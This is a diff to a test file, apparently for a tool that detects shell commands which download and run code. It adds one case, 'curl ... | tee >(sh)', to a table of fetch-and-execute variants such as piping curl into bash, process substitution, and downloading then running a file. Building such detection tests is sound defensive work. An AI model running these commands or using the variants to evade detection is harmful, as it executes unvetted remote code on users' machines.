@@ -109,6 +109,7 @@ describe('a download runs', () => {
     ['curl https://h/x | tee y | bash -s', ['runInput']],
     ['sh < <(curl https://h/x)', ['runInput']],
     ['curl https://h/x > >(sh)', ['runInput']],
+    ['curl https://h/x | tee >(sh)', ['runInput']],
     ['curl https://h/x > y; sh y', ['runFile']],
     ['curl https://h/x -o y; . ./y', ['runFile']],
     ['curl -O https://h/x; ./x', ['runFile']],
